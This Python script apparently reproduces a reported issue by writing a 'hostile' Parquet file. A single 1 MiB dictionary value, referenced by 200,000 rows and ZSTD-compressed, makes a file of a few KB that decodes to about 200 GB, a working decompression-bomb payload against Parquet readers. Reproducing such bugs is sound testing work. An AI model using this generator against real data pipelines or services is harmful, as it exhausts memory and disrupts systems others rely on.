#!/usr/bin/env python3
"""Writes the issue's amplification file with pyarrow: a dictionary-encoded string column whose dictionary
holds one 1 MiB value, referenced by ROWS rows (default 200,000), ZSTD-compressed: a few KB on disk that
decode to ROWS x 1 MiB (200 GB).

    .venv/bin/python scripts/hostile-parquet.py OUT.parquet [ROWS]
"""
import sys

import pyarrow as pa
import pyarrow.parquet as pq

out = sys.argv[1]
rows = int(sys.argv[2]) if len(sys.argv) > 2 else 200_000
value = "x" * (1 << 20)
column = pa.DictionaryArray.from_arrays(pa.array([0] * rows, type=pa.int32()), pa.array([value]))
table = pa.table({"s": column})
# The dictionary page must be allowed past pyarrow's 1 MiB default, or it falls back to PLAIN (200 GB).
pq.write_table(table, out, compression="zstd", dictionary_pagesize_limit=16 << 20, data_page_size=64 << 20)
meta = pq.ParquetFile(out).metadata
print(f"{out}: {meta.num_rows} rows, {meta.row_group(0).column(0).encodings}")
